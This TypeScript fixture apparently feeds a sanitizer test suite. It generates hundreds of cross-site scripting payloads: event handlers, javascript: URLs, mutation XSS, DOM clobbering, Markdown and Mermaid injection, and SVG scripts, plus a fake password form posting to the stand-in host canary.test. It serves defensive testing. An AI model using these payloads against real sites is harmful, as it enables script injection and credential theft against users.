// SPDX-License-Identifier: Apache-2.0
//
// payloads.ts: markup that acts when a page takes it for its own, composed by technique. What runs
// calls __xss(), a dialog or canary.test; the watch of this suite notices each of them.

const run = "__xss(1)";

// An event of each family of elements, the attribute written in each way a parser accepts.
const carriers: [string, string][] = [
  ["img src=x:", "onerror"], ["img src=/x", "onload"], ["svg", "onload"], ["body", "onload"],
  ["body", "onpageshow"], ["details open", "ontoggle"], ["video src=x:", "onerror"],
  ["audio src=x:", "onerror"], ["video", "onloadstart"], ["input autofocus", "onfocus"],
  ["select autofocus", "onfocus"], ["textarea autofocus", "onfocus"], ["a href=x", "onmouseover"],
  ["div tabindex=0", "onfocus"], ["p", "onclick"], ["marquee", "onstart"], ["iframe", "onload"],
  ["object data=x:", "onerror"], ["embed src=/x", "onload"], ["link rel=stylesheet href=x:",
    "onerror"], ["style", "onload"], ["script src=x:", "onerror"], ["form", "onformdata"],
  ["button autofocus", "onfocus"], ["dialog open", "oncancel"], ["math", "onclick"],
  ["table", "onpointerenter"], ["td", "onwheel"], ["summary", "onanimationend"],
  ["h1 contenteditable", "onbeforeinput"], ["custom-element", "ontransitionend"],
  ["picture", "oncontextmenu"], ["source", "onerror"], ["track", "oncuechange"],
];
const spellings: ((before: string, event: string) => string)[] = [
  (b, e) => `<${b} ${e}=${run}>`,
  (b, e) => `<${b} ${e}="${run}">x`,
  (b, e) => `<${b.replace(/ /g, "/")}/${e}='${run}'/>`,
  (b, e) => `<${b.toUpperCase()}\n${e.toUpperCase()}\n=\n${run}>`,
  (b, e) => `<${b}\f${e}=\`${run}\`>`,
  (b, e) => `"><${b} ${e}=${run}><i title="`,
  (b, e) => `<${b} x="a"b="c"${e}="${run}">`,
];
const events = carriers.flatMap(([before, event], at) =>
  [0, 1, 2].map((step) => spellings[(at + step * 2) % spellings.length]!(before, event)));

const addresses = [
  `javascript:${run}`, `JaVaScRiPt:${run}`, ` \u0001javascript:${run}`, `java\tscript:${run}`,
  `java\r\nscript:${run}`, `&#106;avascript:${run}`, `&#x6a&#97;vascript:${run}`,
  `javascript&colon;${run}`, `java&Tab;script&colon;${run}`, `&NewLine;javascript:${run}`,
  `javascript://%0a${run}`, `javascript:/*--></title></style>*/${run}`, `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  "data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0",
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  `data:application/xhtml+xml,<x xmlns='x' onload='${run}'/>`, `view-source:javascript:${run}`,
  `\u00a0javascript:${run}`, `\u200bjavascript:${run}`, `javascript\u003a${run}`,
  "//canary.test/a", "\\\\canary.test\\b", "https:canary.test/c", "blob:https://canary.test/d",
];
const places: ((address: string) => string)[] = [
  (a) => `<a href="${a}">link</a>`,
  (a) => `[link](<${a.replace(/[<>\r\n]/g, "")}>)`,
  (a) => `[ref]\n\n[ref]: ${a.replace(/[\s<>]/g, "")}`,
  (a) => `<${a.replace(/[\s<>]/g, "")}>`,
  (a) => `<img src="${a}">`,
  (a) => `<iframe src="${a}"></iframe>`,
  (a) => `<object data="${a}"></object>`,
  (a) => `<form action="${a}"><button formaction="${a}">x</button></form>`,
  (a) => `<svg><a xlink:href="${a}"><text y=9>x</text></a></svg>`,
  (a) => `<math href="${a}"><mi xlink:href="${a}">x</mi></math>`,
  (a) => `<base href="${a}"><a href="y">y</a>`,
  (a) => `<meta http-equiv=refresh content="0;url=${a}">`,
  (a) => `<link rel=import href="${a}">`,
  (a) => `<blockquote cite="${a}"><q cite="${a}">x</q></blockquote>`,
];
const links = addresses.flatMap((address, at) =>
  [0, 1, 2, 3 + (at % 11), 3 + ((at + 4) % 11)].map((place) => places[place]!(address)));

const script = `<script>${run}</script>`, image = `<img src=x: onerror=${run}>`;
// Text of one parser that is an element of the next.
const mutations = [
  `<noscript><p title="</noscript>${image}">`, `<template>${script}</template>`,
  `<select><style></select>${image}</style>`, `<select><template><b>${image}</select>`,
  `<svg></p><style><a id="</style>${image}">`, `<svg><desc>${image}</desc></svg>`,
  `<svg><title>${image}</title></svg>`, `<svg><foreignObject>${image}</foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${image}">`,
  `<math><annotation-xml encoding="text/html">${image}</annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math>${image}`,
  `<table><svg><foreignObject><select><table><s>${image}`, `<xmp><p title="</xmp>${image}">`,
  `<textarea><p title="</textarea>${image}">`, `<title><p title="</title>${image}">`,
  `<iframe><p title="</iframe>${image}">`, `<noembed><p title="</noembed>${image}">`,
  `<noframes><p title="</noframes>${image}">`, `<style><p title="</style>${image}">`,
  `<a id="x"><a id='</a>${image}'>`, `<p><table><p>${script}</table>`, `<option>${script}</option>`,
  `<svg><set attributeName=href to=javascript:${run} /><a id=a></a></svg>`,
  `<svg><animate attributeName=href values=javascript:${run} /></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='a' onload='${run}'/>#a"/></svg>`,
  `<svg><script href="data:text/javascript,${run}"/></svg>`, `<svg><script>${run}</script></svg>`,
  `<svg><image href="https://canary.test/i"/><feImage href="https://canary.test/f"/></svg>`,
];
const comments = [
  `<!-->${image}-->`, `<!--->${image}-->`, `<!-- --!>${image}-->`, `<!-- x>${image}`,
  `<![CDATA[${image}]]>`, `<svg><![CDATA[><image href=x: onerror=${run} />]]></svg>`,
  `<?xml ?>${image}`, `<?php ">${image}?>`, `<!DOCTYPE a [<!ENTITY b "${image}">]>&b;`,
  `<//${image}`, `</ ${image}>`, `<%${image}%>`, `<!${image}>`,
];
const broken = [
  `<<img src=x: onerror=${run}>`, `<img src=x: onerror=${run}`, `<img src=x: onerror=${run}//`,
  `<scr<script>ipt>${run}</scr</script>ipt>`, `<script\u0000>${run}</script>`,
  `<scr\u0000ipt>${run}</script>`, `<\u0000img src=x: onerror=${run}>`, `<script/src=data:,${run}>`,
  `<script x=">" y='>'>${run}</script >`,
  `<sCrIpT\t\n>${run}</sCrIpT\n>`, `<ſcript>${run}</ſcript>`,
  `<ımg src=x: onerror=${run}>`, "+ADw-script+AD4-__xss(1)+ADw-/script+AD4-",
  "\u00c0\u00bcscript\u00c0\u00be__xss(1)", `\ufeff${script}`, `\u202e${image}\u2066`,
  `\u2028${script}`, `&lt;script&gt;${run}&lt;/script&gt;`, `&#60;img src=x: onerror=${run}&#62;`,
  `%3Cscript%3E${run}%3C/script%3E`, `\\<img src=x: onerror=${run}>`, `</main></body>${script}`,
  `</td></table></div>${script}`, `'"-->]]></style></textarea>${image}`,
];
const active = [
  script, "<script src=https://canary.test/s.js></script>", `<script type=module>${run}</script>`,
  "<script type=importmap>{\"imports\":{}}</script>", `<iframe srcdoc="${script}"></iframe>`,
  `<iframe srcdoc='&lt;img src=x: onerror=parent.${run}&gt;'></iframe>`,
  "<style>@import 'https://canary.test/a.css';</style>",
  "<style>main{background:url(https://canary.test/b)}</style>",
  `<div style="background:url(https://canary.test/c);position:fixed;inset:0;z-index:9">x</div>`,
  `<p style="width:expression(${run});behavior:url(x.htc);-moz-binding:url(x.xml)">x</p>`,
  "<link rel=prefetch href=https://canary.test/d>", "<link rel=stylesheet href=//canary.test/e>",
  "<form action=https://canary.test/f><input name=password type=password><button>Sign in</button>",
  "<button form=f formaction=//canary.test/g type=submit>x</button>",
  "<input type=image src=//canary.test/h formaction=//canary.test/i>",
  "<object data=//canary.test/j></object>", "<embed src=//canary.test/k>",
  "<video poster=//canary.test/l><source src=//canary.test/m></video>",
  "<img srcset='//canary.test/n 2x' src=/x>",
  "<picture><source srcset=//canary.test/o><img src=/x>",
  "<table background=//canary.test/p><td background=//canary.test/q>x</table>",
  "<a href=/x ping=//canary.test/r target=_blank rel=opener>x</a>", "<portal src=//canary.test/s>",
  "<frameset><frame src=//canary.test/t></frameset>", "<applet code=x archive=//canary.test/u>",
  "<a href=/x target=_top download=x.html>x</a>", "<meta charset=utf-7>",
  "<meta name=referrer content=unsafe-url>", "<meta http-equiv=set-cookie content='a=b'>",
  "<title>pwned</title>", "<plaintext>", "<html manifest=//canary.test/v>",
];
const clobbering = [
  "<a id=__proto__><a id=body><a id=head><a id=forms>", "<img name=getElementById src=/x>",
  "<form id=location name=cookie><input name=attributes><input id=action>",
  "<a id=main href=//canary.test/w></a><a id=ui-palette></a><p id=ui-notices>x</p>",
  "<a id=stithy name=islands href=data:,1>",
  "<div data-island=code-diff data-fill=//canary.test/x>",
  "<form data-confirm=x data-turn=//canary.test/y><b data-key=y data-permalink>x</b></form>",
  "<div class='ui-dialog ui-palette ui-toast' popover open>x</div>",
  "<x is=ui-menu></x><ui-time datetime=x></ui-time><slot name=x></slot>",
];
const markdown = [
  `[x](javascript:${run} "onmouseover=${run}")`, `![" onerror="${run}](/x)`,
  `![x](/x"onerror="${run})`, `[![x](javascript:${run})](javascript:${run})`,
  `[^"><img src=x: onerror=${run}>]\n\n[^"><img src=x: onerror=${run}>]: note`,
  `[^1]\n\n[^1]: ${image} [y](javascript:${run})`, `| ${image} | [x](javascript:${run}) |\n|-|-|`,
  `- [ ] ${image}\n- [x] [y](javascript:${run})`, `> [!NOTE]\n> ${image}`,
  `> [!"><img src=x: onerror=${run}>]\n> x`, `# ${image} {#a onclick=${run}}`,
  `\`\`\`"><script>${run}</script>\nx\n\`\`\``, `~~~html\n${script}\n~~~`, `    ${script}`,
  `\`${script}\``, `https://a.test/"onmouseover="${run}`, `www.a.test/'><script>${run}</script>`,
  `a@b.test"onclick="${run}`, `<https://a.test/" onclick="${run}>`, `<mailto:a@b"onclick=${run}>`,
  `@ada"onclick="${run}`, `:"><img src=x: onerror=${run}>:`, `$\\href{javascript:${run}}{x}$`,
  `$$\\unicode{<img src=x: onerror=${run}>}$$`, `[a\n]: javascript:${run}\n\n[a\n]`,
  `<div>\n\n**x** ${script}\n\n</div>`, `***${image}***`, `~~[x](javascript:${run})~~`,
];
// Languages of pictures, which pages may show as text or draw without their links.
const diagrams = [
  `\`\`\`mermaid\ngraph TD\nA["${image}"]-->B\nclick A "javascript:${run}"\n` +
    `click B call ${run}\n\`\`\``,
  `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\n` +
    `graph TD\nA[${script}]\n\`\`\``,
  `\`\`\`math\n\\href{javascript:${run}}{x} \\htmlData{x=${image}}{y}\n\`\`\``,
  `\`\`\`geojson\n{"type":"Feature","properties":{"popup":"${script}"}}\n\`\`\``,
  `\`\`\`stl\nsolid ${image}\nendsolid\n\`\`\``, `\`\`\`svg\n<svg onload=${run}>\n\`\`\``,
];

export const groups: Record<string, string[]> = {
  events, links, mutations, comments, broken, active, clobbering, markdown, diagrams,
};
export const payloads = Object.values(groups).flat();

// On one line and without what names of files and messages cannot hold.
export const lines = [...new Set([...events, ...mutations, ...broken, ...active, ...comments]
  .map((payload) => payload.replace(/[\0\r\n\t\f\u2028]/g, " ").trim()))];

export const drawing = (more: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40"
 height="20" onload="${run};top.${run}">${more}<rect width="40" height="20"/></svg>\n`;

export const drawings = [
  `<script>${run};parent.${run}</script>`, "<script href='https://canary.test/a.js'/>",
  `<foreignObject width="40" height="20"><body xmlns="http://www.w3.org/1999/xhtml">` +
    `<iframe src="javascript:${run}"/><img src="x:" onerror="${run}"/></body></foreignObject>`,
  `<a xlink:href="javascript:${run}"><animate attributeName="href" to="javascript:${run}"/></a>`,
  "<use href='https://canary.test/u.svg#a'/><image href='https://canary.test/i.png'/>",
  "<style>@import 'https://canary.test/s.css'; rect{fill:url(https://canary.test/f#a)}</style>",
  `<set attributeName="onmouseover" to="${run}"/><animate onbegin="${run}" attributeName="x"/>`,
  "<handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>__xss(1)</handler>",
].map(drawing);
